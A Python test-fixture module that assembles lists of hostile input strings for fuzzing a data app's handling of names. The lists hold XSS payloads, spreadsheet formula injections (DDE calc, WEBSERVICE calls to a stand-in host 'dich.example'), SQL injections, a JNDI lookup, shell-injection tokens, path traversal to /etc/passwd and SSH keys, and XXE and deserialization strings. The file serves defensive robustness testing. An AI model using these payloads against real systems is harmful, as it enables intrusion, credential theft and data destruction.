"""Hostile texts: what a name may be when somebody means harm, or merely types oddly.

`LIVELY` is what a screen might run or dress up, `INJECTIONS` what a database, a template or a file system might obey,
`FORMULAS` what a spreadsheet might calculate.
"""

from __future__ import annotations

from itertools import chain, islice, product

HOST = "dich.example"
"""Where a payload that lives would send its request: nowhere that exists."""
LOT = 60
"""How many are shown on one screen."""
HARMLESS = "chữ"

_SCRIPTS = [
    "<script>trap()</script>", "<ScRiPt>trap()</sCrIpT>", f"<script src=https://{HOST}/x.js></script>",
    "<img src=x onerror=trap()>", "<img src=x onerror=\"trap()\">", "<img/src/onerror=trap()>",
    f"<img src=https://{HOST}/anh.png>", "<svg onload=trap()>", "<svg/onload=trap()>",
    "<svg><script>trap()</script></svg>", "<svg><animate onbegin=trap() attributeName=x dur=1s>",
    "<body onload=trap()>", f"<iframe src=https://{HOST}></iframe>", "<iframe srcdoc='<script>trap()</script>'>",
    "<iframe src=javascript:trap()>", "<object data=javascript:trap()>", f"<embed src=https://{HOST}/x.svg>",
    "<math><mtext><img src=x onerror=trap()></math>", "<details open ontoggle=trap()>x</details>",
    "<video><source onerror=trap()></video>", "<audio src=x onerror=trap()>", "<input onfocus=trap() autofocus>",
    "<select onfocus=trap() autofocus>", "<textarea onfocus=trap() autofocus>", "<marquee onstart=trap()>x</marquee>",
    "<a href=javascript:trap()>bấm</a>", f'<a href="https://{HOST}">bấm</a>',
    "<form action=javascript:trap()><button>x",
    "<isindex action=javascript:trap() type=image>", f"<link rel=stylesheet href=https://{HOST}/x.css>",
    "<style>*{display:none}</style>", f"<style>@import 'https://{HOST}/x.css';</style>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}'>", f"<base href=https://{HOST}/>",
    "<template><script>trap()</script></template>", "<noscript><img src=x onerror=trap()></noscript>",
    "\"><script>trap()</script>", "'><img src=x onerror=trap()>", "</title><script>trap()</script>",
    "</textarea><script>trap()</script>", "</style><script>trap()</script>", "--><script>trap()</script>",
    "]]><script>trap()</script>", "\" onmouseover=\"trap()\" x=\"", "' onmouseover='trap()' x='",
    "javascript:trap()", "JaVaScRiPt:trap()", "java\tscript:trap()", "data:text/html,<script>trap()</script>",
    "vbscript:trap()", "&lt;script&gt;trap()&lt;/script&gt;", "&#60;img src=x onerror=trap()&#62;",
    "&#x3c;img src=x onerror=trap()&#x3e;", "＜script＞trap()＜/script＞",
    "\\u003cscript\\u003etrap()\\u003c/script\\u003e",
    "{{constructor.constructor('trap()')()}}", "${trap()}", "#{trap()}", "<%= trap() %>", "{% trap() %}",
    "<!--<img src=x onerror=trap()>-->", "<![CDATA[<img src=x onerror=trap()>]]>", "<?php trap(); ?>",
    "<x onclick=trap()>bấm</x>", "<b onmouseover=trap()>đậm</b>", "<p style=\"position:fixed;inset:0\">che</p>",
]  # fmt: skip

_MARKDOWN = [
    "**đậm**", "__đậm__", "*nghiêng*", "_nghiêng_", "***cả hai***", "~~gạch~~", "~gạch~", "`mã`", "``mã``",
    "```mã```", "~~~mã~~~", "# Tiêu đề", "## Tiêu đề", "###### Tiêu đề", "#", "> trích", ">> trích", "- một", "+ một",
    "* một", "1. một", "1) một", "0. không", "- [ ] việc", "- [x] việc", "---", "***", "___", "===", "- - -",
    "| a | b |", "|a|b| |-|-| |1|2|", ":--|--:", "[bấm](javascript:trap())", f"[bấm](https://{HOST})",
    f"[bấm](<https://{HOST}> 'x')", f"![ảnh](https://{HOST}/a.png)", "![ảnh](x 'onerror=trap()')",
    f"[bấm][1] [1]: https://{HOST}", f"[1]: https://{HOST}", "[^1]", "[^1]: chú thích", f"<https://{HOST}>",
    "<javascript:trap()>", f"<vanthu@{HOST}>", f"https://{HOST}/x", f"http://{HOST}", f"HTTPS://{HOST}/X",
    f"www.{HOST}", f"WWW.{HOST}", f"ftp://{HOST}/x", f"vanthu@{HOST}", f"mailto:vanthu@{HOST}",
    f"xmpp:an@{HOST}/phong", f"(https://{HOST})", f"Xem www.{HOST}, rồi", f"a.b-c+d@e.{HOST}",
    "mất\\", "\\", "\\\\", "a\\*b", "&amp;", "&lt;b&gt;", "&nbsp;", "&copy;", "&#35; x", "&#x23; x", "&",
]  # fmt: skip

_STREAMLIT = [
    ":red[đỏ]", ":blue[**đậm**]", ":green-background[nền]", ":rainbow[cầu vồng]", ":violet-badge[nhãn]",
    ":orange-badge[:material/warning: x]", ":small[nhỏ]", ":shimmer[x]", ":help[x]", ":color[x]{foreground=red}",
    ":material/home:", ":material/delete:", ":material_home:", ":material_warning: x", ":streamlit:", ":smile:", ":+1:",
    ":heart: :-1:", ":wave:", "::smile::", ":a:b:", "a -> b", "a <- b", "a <-> b", "a -- b", "5 >= 4", "4 <= 5",
    "a ~= b", "->", "--", ">= 70", ":red[", "]", ":[x]", "::div", ":::khung", ":::", ":name[x]{#id .class}",
]  # fmt: skip

_LATEX = [
    "$x^2$", "$$x^2$$", "$\\frac{a}{b}$", "$\\href{javascript:trap()}{x}$", "$\\htmlClass{x}{y}$", "5$ và 6$",
    "$a$ $b$",
    "\\(x\\)", "\\[x\\]", "$`x`$", "\\begin{matrix}a\\end{matrix}", "${x}$", "$$", "\\$x\\$",
]  # fmt: skip

_PLOTLY = [
    "<b>đậm</b>", "<i>nghiêng</i>", "<em>x</em>", "<sup>2</sup>", "<sub>2</sub>", "<br>", "a<br>b", "a<br/>b",
    "<span style='color:red'>x</span>", f"<a href='https://{HOST}'>x</a>", "<a href='javascript:trap()'>x</a>",
    f"<a href='https://{HOST}' target='_top'>x</a>", "<extra></extra>", "</extra><b>x", "%{y}", "%{customdata[0]}",
    "%{x:.2f}", "%{fullData.name}", "%{y|%Y}", "<b", "b>", "< b >", "<s>x</s><u>y</u>",
]  # fmt: skip

_ODD = [
    "an\u200bnhiên", "an\u2060nhiên", "\ufeffan", "a\u00adn", "\u200fan", "\u202ecod.xslx", "\u2066an\u2069",
    "\u202dan\u202c",
    "a\u0301\u0302\u0303\u0304\u0305", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤", "👩‍👩‍👧‍👦 nhà", "𝓣𝓱ô𝓷", "ﷺ", "Ⅳ ½ ²",
    "a,b;c", '"a","b"', "a\u00a0b", "x" * 180, "xã " * 40,
]  # fmt: skip

LIVELY = list(dict.fromkeys(chain(_SCRIPTS, _MARKDOWN, _STREAMLIT, _LATEX, _PLOTLY, _ODD)))
"""Texts that a browser, Markdown, Streamlit or Plotly might take for more than text."""

_STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "   +", "'=", "''-", '"=', "\u00a0=", "\u200b=", "\ufeff@",
    "\u2060-",
    "＝", "＋", "－", "＠", "=+", "-@", "+-", "@=", "=-", "\t\t@", "\v=", "\x00=", "\x1f+", "'\t=",
)  # fmt: skip
_RUN = (
    "1+1", "cmd|' /C calc'!A0", f'HYPERLINK("http://{HOST}/?"&A1,"bấm")', f'WEBSERVICE("http://{HOST}")', "SUM(A1:A9)",
    "DDE(\"cmd\";\"/C calc\";\"x\")", f'IMPORTXML("http://{HOST}","//a")', f'IMAGE("http://{HOST}/a.png")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A", "MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "-2+3+cmd|' /C calc'!D2",
    "EXEC(\"calc\")", f"'file://{HOST}/x'#$Sheet1.A1", "3,5", "A1*2",
)  # fmt: skip
FORMULAS = [_STARTS[at % len(_STARTS)] + _RUN[(at + at // len(_STARTS)) % len(_RUN)] for at in range(60)]
"""Texts that a spreadsheet might calculate, each start and each body several times."""

_SQL = [
    "'", "''", '"', "';--", "'; DROP TABLE batch; --", "'; DELETE FROM observation; --", "1; DROP TABLE meta",
    "' OR '1'='1", "' OR 1=1--", "\" OR \"\"=\"", "') OR ('1'='1", "' UNION SELECT NULL--",
    "' UNION ALL SELECT 1,2,3,4--",
    "' UNION SELECT sql FROM sqlite_master--", "' AND 1=2 UNION SELECT table_name FROM information_schema.tables--",
    "1' ORDER BY 99--", "' AND (SELECT count(*) FROM batch)>0--", "'; ATTACH 'x.db' AS x; --",
    "'; COPY batch TO 'x.csv'; --", "'; INSTALL httpfs; LOAD httpfs; --", "' || (SELECT current_user) || '",
    "'; PRAGMA database_list; --", "'; SET memory_limit='1B'; --", "read_csv('/etc/passwd')", "'; CHECKPOINT; --",
    "%' AND 1=1 AND '%'='", "_%", "%", "\\'", "'/**/OR/**/1=1", "'; WAITFOR DELAY '0:0:5'--", "' AND SLEEP(5)--",
    "'; SELECT pg_sleep(5)--", "' AND ASCII(SUBSTRING((SELECT 1),1,1))>64--", "CHAR(39)", "0x27206f7220313d31", "$1",
    "?",
    ":name", "@x", "$commune", "$slug", "$name$", "{{x}}", "$$x$$", "\x1a", "NULL", "null", "true", "NaN", "1e309",
    "-0",
]  # fmt: skip
_TEMPLATES = [
    "{0.__class__}", "{self}", "{0}", "{}", "{{}}", "{x!r}", "{0:>9999}", "%s", "%n%n%n", "%(x)s", "%99999d", "${7*7}",
    "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "{{config}}", "{% raw %}", "${jndi:ldap://dich.example/a}", "`id`", "$(id)",
    "; id",
    "| id", "& whoami", "&& dir", "__import__('os').system('id')", "f'{1}'", "\\N{BULLET}", "\\x41", "\\u0041", "\\0",
    '{"a":1}', '[1,2]', '"}', "'}]", "{'$gt': ''}", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;",
    "a: !!python/object:os.system", "[[a]]\nb = 1", "---\n- x", "pickle\x80\x04", "O:8:\"stdClass\":0:{}",
]  # fmt: skip
_PATHS = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows\\win.ini", "\\\\dich.example\\c$",
    "//dich.example/c", "file:///etc/passwd", "CON", "NUL", "PRN.xlsx", "COM1", "LPT1.csv", "AUX", "con.xlsx", "a:b",
    "a.xlsx:$DATA", "a%00.xlsx", "a\x00.xlsx", "%2e%2e%2f", "..%c0%af", "....//", ".", "..", "~", "~/.ssh/id_rsa",
    "$HOME",
    "%APPDATA%", "a.", "a ", " a", "a/b", "a\\b", "a?b", "a*b", "a<b>", 'a"b', "a|b", "so-lieu.duckdb", "-rf", "--help",
]  # fmt: skip
_BROKEN = [
    "a\r\nSet-Cookie: x=1", "a%0d%0aX: 1", "a\nb", "a\rb", "a\tb", "a\x0bb", "a\x0cb", "a\x85b", "a\u2028b", "a\u2029b",
    "a\x1bb[31m", "a\x7fb", "\ufeffa", "\u200ba", "a\u200d", "\u202ea", "\u2066a", "a\u0300" * 30, "İ", "ß", "ſ", "K",
    "ﬁ", "Å", "𝒜", "👨‍👩‍👧", "\U0010fffd", "\ufffd", "\ufdd0", "ａ", "１２", "٣", "Ⅷ", "½", "ǆ", "ŉ", "Ω",
    "\u1e9b\u0323", "hoà hòa", "Thủy Thuỷ", "đ", "Đ", "a" * 300, "ă" * 300, "a " * 150, "𝒜" * 150, "0" * 300,
    "9" * 40, "-" * 300,
    "'" * 300,
    "(" * 300, "[" * 300, "{" * 300, "\\" * 300, ";" * 300, "," * 300, '"' * 299, "%" * 300, "\ud800".encode("utf-8",
    "ignore").decode(),
]  # fmt: skip
_AROUND = ("{}", "Thôn {}", "{} 1", "({})", "'{}'")
INJECTIONS = list(
    islice(
        dict.fromkeys(
            around.replace("{}", one)
            for around, one in product(_AROUND, [*_SQL, *_TEMPLATES, *_PATHS, *_BROKEN, *LIVELY[:60]])
            if one
        ),
        1000,
    )
)
"""Texts that a database, a template, a shell, a path or a header might obey, alone and within a name."""
